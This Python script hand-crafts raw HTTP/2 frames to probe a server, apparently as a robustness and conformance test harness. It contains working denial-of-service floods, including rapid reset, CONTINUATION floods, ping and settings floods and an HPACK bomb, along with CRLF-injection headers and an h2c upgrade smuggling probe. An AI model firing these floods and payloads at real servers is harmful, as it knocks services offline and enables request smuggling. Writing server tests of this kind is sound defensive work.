# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 frames by hand, for what no library would send.

  h2raw.py HOST PORT NAME...     each attack on a connection of its own; JSON {NAME: what came back}

What came back: goaway (code of GOAWAY, or null), rst (codes of RST_STREAM, sorted, each once), status (of HEADERS), closed.
Header blocks are written as literals without indexing; of what comes only :status is read.
"""
import json
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED, WITH_PRIORITY = 1, 4, 8, 32
STATIC = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(n, bits, first=0):
    top = (1 << bits) - 1
    if n < top:
        return bytes([first | n])
    out, n = bytes([first | top]), n - top
    while n >= 128:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def literal(name, value, first=0, bits=4):
    name, value = (s if isinstance(s, bytes) else s.encode() for s in (name, value))
    return integer(0, bits, first) + integer(len(name), 7) + name + integer(len(value), 7) + value


def block(*fields, method="GET", path="/", scheme="http", authority="reco"):
    rows = [(n, v) for n, v in ((":method", method), (":scheme", scheme), (":authority", authority), (":path", path))
            if v is not None]
    return b"".join(literal(n, v) for n, v in rows + list(fields))


def request(stream, *fields, end=True, **kw):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block(*fields, **kw))


def status_of(payload):
    """:status is the first field of an answer: indexed, or a literal with its indexed name."""
    if payload[0] & 128:
        return STATIC.get(payload[0] & 127, 0)
    n, text = payload[1] & 127, payload[2:2 + (payload[1] & 127)]
    if not payload[1] & 128:
        return int(text)
    bits, out = "".join(f"{b:08b}" for b in text[:n]), ""
    while len(out) < 3:
        size = 5 if bits[:2] == "00" else 6
        out += str(int(bits[:5], 2) if size == 5 else int(bits[:6], 2) - 22)
        bits = bits[size:]
    return int(out)


class Conn:
    def __init__(self, host, port, settings=b"", preface=PREFACE):
        self.s = socket.create_connection((host, port), 5)
        self.s.setblocking(True)
        self.s.settimeout(0.2)
        self.buf, self.pongs = b"", 0
        self.seen = {"goaway": None, "rst": set(), "status": [], "closed": False, "ended": 0}
        self.send(preface + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """All of it, reading meanwhile; what does not go out within three seconds is left."""
        deadline = time.monotonic() + 3
        while data and not self.seen["closed"] and time.monotonic() < deadline:
            try:
                data = data[self.s.send(data[:65536]):]
            except socket.timeout:
                pass
            except OSError:
                data = b""  # the other side is gone; what it said is still to be read
            self.read(0.0)

    def read(self, seconds, until=lambda seen: False):
        deadline = time.monotonic() + seconds
        self.s.settimeout(0.01 if seconds else 0.0)
        while not self.seen["closed"] and not until(self.seen):
            try:
                got = self.s.recv(1 << 20)
                self.buf += got
                self.seen["closed"] |= not got
            except (socket.timeout, BlockingIOError):
                if time.monotonic() > deadline:
                    break
            except OSError:
                self.seen["closed"] = True
            self.frames()
        self.s.settimeout(0.2)
        return self

    def frames(self):
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                return
            kind, flags, payload = self.buf[3], self.buf[4], self.buf[9:9 + n]
            self.buf = self.buf[9 + n:]
            if kind == GOAWAY:
                self.seen["goaway"] = struct.unpack(">I", payload[4:8])[0]
            elif kind == PING:
                self.pongs += flags & 1
            elif kind == RST:
                self.seen["rst"].add(struct.unpack(">I", payload)[0])
            elif kind == HEADERS:
                self.seen["status"].append(status_of(payload))
            if kind in (HEADERS, DATA) and flags & END_STREAM:
                self.seen["ended"] += 1

    def result(self, seconds=2.0):
        self.read(seconds, lambda seen: seen["closed"])
        self.s.close()
        return {**self.seen, "rst": sorted(self.seen["rst"]), "status": sorted(set(self.seen["status"]))}


# ---- floods ----
def rapid_reset(c):
    for i in range(2000):
        c.send(request(2 * i + 1) + frame(RST, 0, 2 * i + 1, struct.pack(">I", 8)))


def made_you_reset(c):
    """Streams that the server resets itself, because their window overflows."""
    for i in range(2000):
        c.send(request(2 * i + 1, end=False, method="POST") + frame(UPDATE, 0, 2 * i + 1, b"\x7f\xff\xff\xff"))


def continuation(c):
    c.send(frame(HEADERS, END_STREAM, 1, block()))
    for i in range(1000):
        c.send(frame(CONTINUATION, 0, 1, literal(f"x-{i}", "y" * 100)))


def empty_continuation(c):
    c.send(frame(HEADERS, END_STREAM, 1, block()) + frame(CONTINUATION, 0, 1) * 1000)


def empty_data(c):
    c.send(request(1, end=False, method="POST") + frame(DATA, 0, 1) * 5000)


def padding_data(c):
    c.send(request(1, end=False, method="POST") + frame(DATA, PADDED, 1, b"\x20" + b"\0" * 32) * 1000)


def ping(c):
    c.send(frame(PING, 0, 0, b"12345678") * 20000)


def settings(c):
    c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 20000)


def many_settings(c):
    c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 2000))


def priority(c):
    c.send(b"".join(frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 0, 1)) for i in range(20000)))


def window_update(c):
    c.send(request(1, end=False, method="POST") + frame(UPDATE, 0, 1, b"\0\0\0\1") * 50000)


def hpack_bomb(c):
    """One field of 4,000 bytes in the table, then the table's entry again and again."""
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block() + literal("x-big", "y" * 3900, 64, 6)))
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, block() + integer(62, 7, 128) * 16000))


def table_churn(c):
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, (integer(0, 5, 32) + integer(4096, 5, 32)) * 3000 + block()))


# ---- windows, streams ----
def window_overflow(c):
    c.send(frame(UPDATE, 0, 0, struct.pack(">I", 0x7fffffff)) * 2)


def window_zero(c):
    """A hundred answers that may not be sent: what is kept for them is bounded."""
    c.send(b"".join(request(2 * i + 1, path="/files/1m") for i in range(100)))
    c.read(1.5)


def half_open(c):
    c.send(b"".join(request(2 * i + 1, end=False, method="POST", path="/sink") for i in range(101)))


def even_stream(c):
    c.send(request(2))


def stream_again(c):
    c.send(request(5))
    c.read(1, lambda seen: seen["ended"])
    c.send(request(5))
    c.read(0.3)


def stream_back(c):
    c.send(request(5) + request(3))
    c.read(0.5)


def old_streams(c):
    c.send(request(9999))
    c.read(1, lambda seen: seen["ended"])
    c.send(b"".join(request(2 * i + 1) for i in range(4000)))


def last_stream(c):
    c.send(request(0x7fffffff))


def data_on_idle(c):
    c.send(frame(DATA, 0, 1, b"x"))


def self_priority(c):
    c.send(frame(HEADERS, END_HEADERS | END_STREAM | WITH_PRIORITY, 1, struct.pack(">IB", 1, 1) + block()))


def frame_too_large(c):
    c.send(request(1, end=False, method="POST") + frame(DATA, 0, 1, b"x" * 16385))


def bad_frame_size(c):
    c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 5, 1)))


def bad_window(c):
    c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x80000000)))


def early_answer(c):
    """A body that nobody reads: the answer comes, then NO_ERROR says that the rest is not wanted."""
    c.send(request(1, end=False, method="POST", path="/status/403"))


def goaway_then_stream(c):
    c.send(frame(GOAWAY, 0, 0, b"\0" * 8) + request(1))


def push(c):
    c.send(frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2) + block()))


def drained(c):
    """Whoever is asked may be on its way out: the answer that takes its time comes, GOAWAY says that it is the last.
    Read when the connection has ended long ago: all of it must still be there."""
    c.send(request(1, authority="origin", path="/late?ms=1000") + frame(PING, 0, 0, b"12345678"))
    c.read(5, lambda seen: c.pongs)  # by now it is there
    print("asked", file=sys.stderr, flush=True)
    time.sleep(1.5)
    c.read(5, lambda seen: seen["closed"])


# ---- heads and bodies ----
def index_zero(c):
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block() + b"\x80"))


def head(*fields, **kw):
    return lambda c: c.send(request(1, *fields, **kw))


HEADS = {
    "path twice": head((":path", "/b")), "path absent": head(path=None), "path empty": head(path=""),
    "path without slash": head(path="t.T/Who"), "star without OPTIONS": head(path="*"),
    "path with a blank": head(path="/a b HTTP/1.1"), "path with a fragment": head(path="/a#b"),
    "path that climbs": head(path="/a/..;/b"), "scheme unknown": head(scheme="ftp"), "scheme absent": head(scheme=None),
    "method absent": head(method=None), "method with a blank": head(method="GET /x"),
    "authority with a slash": head(authority="reco/x"), "authority with userinfo": head(authority="a@reco"),
    "no authority": head(authority=None), "host differs": head(("host", "user")), "host twice": head(("host", "reco"), ("host", "reco")),
    "unknown pseudo-header": head((":x", "y")), "status in a request": head((":status", "200")),
    "upper case": head(("X-A", "b")), "empty name": head(("", "b")), "blank in a name": head(("x a", "b")),
    "line end in a name": head(("x\r\na", "b")), "CR in a value": head(("x-a", "b\rc")),
    "LF in a value": head(("x-a", "b\nc: d")), "NUL in a value": head(("x-a", "b\0c")),
    "connection": head(("connection", "close")), "transfer-encoding": head(("transfer-encoding", "chunked")),
    "upgrade": head(("upgrade", "websocket")), "te": head(("te", "gzip")), "keep-alive": head(("keep-alive", "1")),
    "content-length twice": head(("content-length", "0"), ("content-length", "0")),
    "content-length without body": head(("content-length", "5")), "content-length signed": head(("content-length", "+0")),
    "CONNECT": head(method="CONNECT", path=None, scheme=None),
    "pseudo-header after a regular one": lambda c: c.send(frame(HEADERS, 5, 1, literal("x-a", "b") + block())),
    "body shorter": lambda c: c.send(request(1, ("content-length", "5"), end=False, method="POST") + frame(DATA, 1, 1, b"abc")),
    "body longer": lambda c: c.send(request(1, ("content-length", "2"), end=False, method="POST") + frame(DATA, 1, 1, b"abc")),
    "trailers with a pseudo-header": lambda c: c.send(
        request(1, end=False, method="POST") + frame(HEADERS, 5, 1, literal(":path", "/b"))),
    "trailers without end": lambda c: c.send(
        request(1, end=False, method="POST") + frame(HEADERS, 4, 1, literal("x-t", "b"))),
    "too many fields": head(*[(f"x-{i}", "y") for i in range(120)]),
    "too large": lambda c: c.send(
        frame(HEADERS, END_STREAM, 1, block() + literal("x-a", "y" * 12000)) + frame(CONTINUATION, 4, 1, literal("x-b", "y" * 12000))),
}


def upgrade_with_body(host, port):
    """The preface as the body of an upgrade: must stay a body."""
    body = PREFACE + frame(SETTINGS) + request(1, path="/smuggled")
    s = socket.create_connection((host, port), 5)
    s.settimeout(1)
    s.sendall(b"POST /sink HTTP/1.1\r\nHost: reco\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
              b"HTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    got = b""
    try:
        while True:
            more = s.recv(65536)
            got += more
            if not more:
                break
    except socket.timeout:
        pass
    return got.decode("latin-1")


def run(name, host, port):
    if name == "upgrade with body":
        return upgrade_with_body(host, port)
    c = Conn(host, port, struct.pack(">HI", 4, 0) if name == "window_zero" else b"")
    HEADS[name](c) if name in HEADS else globals()[name](c)
    one = name in HEADS or name in ("last_stream", "early_answer", "goaway_then_stream", "self_priority", "table_churn")
    if one:
        c.read(2, lambda seen: seen["rst"] or (seen["ended"] and name != "early_answer") or seen["goaway"] is not None)
    return c.result(0.05 if one or name in ("half_open", "window_zero", "stream_again", "stream_back") else 2.0)


if __name__ == "__main__":
    names = sys.argv[3:] if sys.argv[3] != "heads" else list(HEADS)
    print(json.dumps({n: run(n, sys.argv[1], int(sys.argv[2])) for n in names}))
